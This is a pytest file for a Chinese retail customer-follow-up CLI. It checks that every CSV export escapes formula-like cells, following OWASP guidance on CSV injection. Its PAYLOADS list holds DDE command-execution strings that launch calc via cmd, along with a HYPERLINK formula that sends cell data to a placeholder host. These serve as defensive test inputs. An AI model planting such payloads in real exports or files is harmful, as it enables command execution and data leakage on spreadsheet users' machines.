"""CSV injection: every CSV the tool writes keeps formula-like text inert (OWASP).

Payloads go into every text field of an archive (names, stores, owners, products, notes, a
call sheet's remarks) and through every command that writes CSV; no cell of any CSV may
then start with = + - @, a tab or a carriage return unless it is a number. --raw-csv writes
the cells as they are.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re

from click.testing import CliRunner
from openpyxl import load_workbook

from followup_cli.cli import cli
from followup_cli.outputs.rows import FORMULA_START, csv_cell
from tests.helpers import make_workbook

D = dt.date
AS_OF = "2026-11-23"
PAYLOADS = [
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://example.invalid/?x="&A1,"click")',
    "-1+1",
]
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?%?\Z")


def invoke(*args):
    return CliRunner().invoke(cli, [str(a) for a in args])


def payload(i: int) -> str:
    return PAYLOADS[i % len(PAYLOADS)]


def hostile_archive(tmp_path):
    n = len(PAYLOADS)
    customers = [
        [
            f"C{i}",
            payload(i),
            "女",
            "13800000001",
            D(1990, 11, 23),
            payload(i + 1),
            payload(i + 2) if i % 2 else None,
            D(2025, 1, 10),
            600,
            "否",
            payload(i + 3),
        ]
        for i in range(n)
    ]
    staff = [[f"S{i}", payload(i + 2), payload(i + 1), "华东", "客服", "是", None, 1] for i in range(n)]
    purchases = [[f"C{i}", D(2026, 11, 16), payload(i), 1999, "是"] for i in range(n)]
    visits = [[f"C{i}", D(2026, 10, 1 + i), "电话回访", "已接通", 4, f"T{i}", payload(i + 4)] for i in range(n)]
    tickets = [[f"W{i}", f"C{i}", payload(i), D(2026, 11, 20)] for i in range(n)]
    return make_workbook(
        tmp_path / "archive.xlsx",
        {
            "客户档案": [
                ["客户编号", "姓名", "性别", "手机", "生日", "门店", "负责人", "建档日期", "积分", "拒绝回访", "备注"]
            ]
            + customers,
            "员工": [["工号", "姓名", "门店", "地区", "角色", "在职", "离职日期", "能力权重"]] + staff,
            "消费记录": [["客户编号", "消费日期", "商品名称", "金额", "当季新品"]] + purchases,
            "回访记录": [["客户编号", "回访日期", "回访类型", "结果", "满意度", "任务编号", "备注"]] + visits,
            "售后工单": [["工单号", "客户编号", "工单类型", "结案时间"]] + tickets,
        },
    )


def cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")) for c in row]


def live(text: str) -> list[str]:
    """Cells a spreadsheet would run as formulas."""
    return [c for c in cells(text) if c.startswith(FORMULA_START) and not _NUMBER.match(c)]


def quoted_payloads(text: str) -> int:
    """Cells holding a neutralised payload (the reader may have trimmed its leading tab or CR)."""
    return sum(c.startswith("'") and any(c[1:].startswith(p.strip()) for p in PAYLOADS) for c in cells(text))


def csv_outputs(tmp_path, path, *extra) -> dict[str, str]:
    """Every CSV-writing command on `path`: {name: the CSV text}."""
    out: dict[str, str] = {}

    def run(name, *args, file=None):
        result = invoke(*args, *extra)
        assert result.exit_code in (0, 1), f"{name}: {result.output}"
        assert "Traceback" not in result.output and "unexpected error" not in result.output, result.output
        out[name] = file.read_text(encoding="utf-8-sig") if file else result.stdout

    run("due", "due", path, "--as-of", AS_OF, "--format", "csv", "--ahead", "30", "-q")
    run(
        "due -o",
        "due",
        path,
        "--as-of",
        AS_OF,
        "--ahead",
        "30",
        "-q",
        "-o",
        tmp_path / "due.csv",
        file=tmp_path / "due.csv",
    )
    run("check", "check", path, "--as-of", AS_OF, "--format", "csv", "-q")
    run(
        "kpi",
        "kpi",
        path,
        "--period",
        "2026-11",
        "--by",
        "store",
        "-q",
        "-o",
        tmp_path / "kpi.csv",
        file=tmp_path / "kpi.csv",
    )
    run("kpi --by staff", "kpi", path, "--period", "2026-11", "--by", "staff", "--format", "csv", "-q")
    run("assign", "assign", path, "--as-of", AS_OF, "--dry-run", "--format", "csv", "-q")
    run("presets", "presets", "--format", "csv")
    run("calendar", "calendar", "2026", "--format", "csv")
    run(
        "log --dry-run",
        "log",
        path,
        "--customer",
        "C0",
        "--kind",
        "生日回访",
        "--outcome",
        "已接通",
        "--date",
        AS_OF,
        "--notes",
        PAYLOADS[0],
        "--dry-run",
        "--format",
        "csv",
    )
    sheet = tmp_path / "calls.xlsx"
    made = invoke("sheet", path, "-o", sheet, "--as-of", AS_OF, "-q", "--overwrite")
    assert made.exit_code == 0, made.output
    wb = load_workbook(sheet)
    for ws in wb.worksheets:
        if ws.title.startswith("_"):
            continue
        headers = [c.value for c in ws[1]]
        for i, row in enumerate(ws.iter_rows(min_row=2)):
            for header, value in (("完成日期", AS_OF), ("结果", "已联系"), ("备注", payload(i))):
                if header in headers:
                    cell = row[headers.index(header)]
                    cell.value = value
                    cell.data_type = "s"
    wb.save(sheet)
    run(
        "record --dry-run",
        "record",
        path,
        sheet,
        "--as-of",
        AS_OF,
        "--dry-run",
        "-q",
        "-o",
        tmp_path / "dry.csv",
        file=tmp_path / "dry.csv",
    )
    return out


def test_csv_cell_rules():
    for p in PAYLOADS:
        assert csv_cell(p) == "'" + p
        assert csv_cell(p, raw=True) == p
    for number in (-5, -0.5, 3, 2.5e10, "-5", "+3", "-12.5%", "1e5"):
        assert csv_cell(number) == number
    assert csv_cell(True) is True and csv_cell(None) == "" and csv_cell(D(2026, 1, 2)) == "2026-01-02"
    assert csv_cell("王芳") == "王芳" and csv_cell(" =1") == " =1"
    # a phone typed with its country code is the shop's text, not an amount: Excel would show 8.6138E+12
    assert csv_cell("+8613800000002") == "'+8613800000002" and csv_cell("-12345678") == "'-12345678"


def test_every_csv_command_neutralises_every_payload(tmp_path):
    path = hostile_archive(tmp_path)
    outputs = csv_outputs(tmp_path, path)
    for name, text in outputs.items():
        assert live(text) == [], f"{name}: {live(text)[:3]}"
    # the payloads did reach the outputs that show the shop's text (a test that cannot fail is no test)
    for name in ("due", "due -o", "check", "kpi", "assign", "log --dry-run", "record --dry-run"):
        assert quoted_payloads(outputs[name]) >= 1, f"{name}: no payload reached the CSV"
    assert quoted_payloads(outputs["due"]) >= len(PAYLOADS)


def test_raw_csv_writes_cells_as_they_are(tmp_path):
    path = hostile_archive(tmp_path)
    result = invoke("due", path, "--as-of", AS_OF, "--format", "csv", "--ahead", "30", "-q", "--raw-csv")
    assert result.exit_code == 0, result.output
    assert {p.strip() for p in PAYLOADS} <= set(cells(result.stdout))  # the reader trims the tab and CR
    # and the next run, without the flag, is neutralised again (the choice does not linger)
    again = invoke("due", path, "--as-of", AS_OF, "--format", "csv", "--ahead", "30", "-q")
    assert live(again.stdout) == []


def test_negative_numbers_stay_numbers_in_kpi_csv(tmp_path):
    path = hostile_archive(tmp_path)
    result = invoke("kpi", path, "--period", "2026-11", "--format", "csv", "-q")
    assert result.exit_code in (0, 1), result.output
    assert not any(c.startswith("'") and _NUMBER.match(c[1:]) for c in cells(result.stdout))
